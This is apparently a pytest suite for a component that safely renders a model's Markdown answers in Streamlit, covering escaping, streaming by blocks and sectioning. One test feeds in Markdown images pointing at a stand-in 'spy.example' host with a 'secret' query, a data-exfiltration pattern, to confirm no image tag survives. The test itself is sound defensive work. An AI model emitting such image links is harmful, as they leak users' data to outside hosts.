"""A model's Markdown: shown as it was written, safe, and drawn block by block."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from components.markdown import SECTION, block_ends, plain, prepare, sections

ANSWER = """# Head

One **bold** paragraph
on two lines.

- a
- b

  still b

1. x

| a | b |
|---|---|
| 1 | 2 |

```python
print(1)

print(2)
```

> quote

End."""


@pytest.mark.parametrize(
    ("written", "prepared"),
    [
        ("from $5 to $10", r"from \$5 to \$10"),
        ("from $5 to $10, $x^2$", r"from \$5 to \$10, $x^2$"),
        (r"\(a+b\) is short", "$a+b$ is short"),
        (r"\[x = 1\]", "$$x = 1$$"),
        ("$$\na = b\n$$\nfor $4", "$$\na = b\n$$\n" + r"for \$4"),
        ("`$5` and ```$6```", "`$5` and ```$6```"),
        ("```sh\necho $HOME ![x](y)\n```\n", "```sh\necho $HOME ![x](y)\n```\n"),
        ("```sh\necho $HOME", "```sh\necho $HOME"),
        (":red[alarm] at 10:30", r"\:red[alarm] at 10:30"),
        ("see http://a.example/b", "see http://a.example/b"),
    ],
)
def test_what_a_model_wrote_is_what_is_shown(written: str, prepared: str) -> None:
    assert prepare(written) == prepared


@pytest.mark.parametrize(
    "written", ["![pixel](https://spy.example/?q=secret)", "![a [b] c](https://spy.example)", "x ![][1]\n\n[1]: //spy"]
)
def test_no_image_is_left_for_the_browser_to_fetch(written: str) -> None:
    assert "<img" not in MarkdownIt("commonmark").render(prepare(written))


def test_a_block_is_finished_once_another_one_has_begun() -> None:
    assert block_ends("# Head\n\nOne") == []
    assert block_ends("# Head\n\nOne\n") == [len("# Head\n\n")]
    assert block_ends("# Head\n\nOne\n\n- a\n") == [len("# Head\n\n"), len("# Head\n\nOne\n\n")]


@pytest.mark.parametrize(
    "open_block", ["- a\n\n  b\n\n- c\n", "```\nx\n\ny\n", "| a |\n|---|\n| 1 |\n", "$$\na\n\nb\n"]
)
def test_lists_fences_tables_and_formulas_stay_whole(open_block: str) -> None:
    assert block_ends(f"Before.\n\n{open_block}")[-1:] in ([], [len("Before.\n\n")])


def test_a_long_text_is_drawn_in_sections_and_one_with_references_whole() -> None:
    text = "\n\n".join([ANSWER] * 40)
    drawn = sections(text)
    assert "".join(drawn) == text
    assert len(drawn) > 3
    assert all(SECTION <= len(section) < SECTION + len(ANSWER) for section in drawn[:-1])
    assert sections(f"{text}\n\n[1]: https://example.org") == [f"{text}\n\n[1]: https://example.org"]
    assert sections(ANSWER) == [ANSWER]


def drawn_in_blocks(text: str, cuts: list[int]) -> str:
    """The HTML of a text that arrives in pieces, each finished block rendered for itself."""
    renderer = MarkdownIt("commonmark").enable("table")
    html, start = "", 0
    for cut in [*sorted(cut % (len(text) + 1) for cut in cuts), len(text)]:
        first = start
        for end in block_ends(text[first:cut]):
            html += renderer.render(text[start : first + end])
            start = first + end
    return f"{html}{renderer.render(text[start:])}"


@given(st.lists(st.integers(0, 10_000)))
def test_an_answer_drawn_in_blocks_is_the_answer_drawn_whole(cuts: list[int]) -> None:
    assert drawn_in_blocks(ANSWER, cuts) == MarkdownIt("commonmark").enable("table").render(ANSWER)


LINES = st.sampled_from(
    [
        "word",
        "",
        "- item",
        "  more",
        "1. one",
        "> quote",
        "```",
        "# head",
        "---",
        "| a |",
        "|---|",
        "    code",
        "***",
        "\tx",
    ]
)


@given(st.lists(LINES, max_size=14), st.lists(st.integers(0, 200)))
def test_any_blocks_drawn_apart_are_the_same_drawn_whole(lines: list[str], cuts: list[int]) -> None:
    text = "\n".join(lines)
    whole = MarkdownIt("commonmark").enable("table").render(text)
    assert drawn_in_blocks(text, cuts) == whole


def test_what_was_drawn_while_it_came_is_what_is_drawn_at_the_end() -> None:
    def page(text: str) -> None:
        import streamlit

        from components.markdown import LiveMarkdown, markdown

        live = LiveMarkdown(streamlit.empty())
        for start in range(0, len(text), 7):
            live.update(text[start : start + 7])
        markdown(text)

    text = "\n\n".join([ANSWER] * 40)
    drawn = [element.value for element in AppTest.from_function(page, args=(text,)).run().markdown]
    finished = [section.strip() for section in sections(text)]
    live = drawn[: -len(finished)]
    assert drawn[-len(finished) :] == finished
    assert live[: len(finished) - 1] == finished[:-1]
    assert "".join("".join(live[len(finished) - 1 :]).split()) == "".join(finished[-1].split())


@given(st.text())
def test_plain_text_is_shown_character_for_character(text: str) -> None:
    shown = MarkdownIt("commonmark").renderInline(plain(text))
    unescaped = shown.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
    assert unescaped == " ".join(text.replace("\x00", "\ufffd").split())
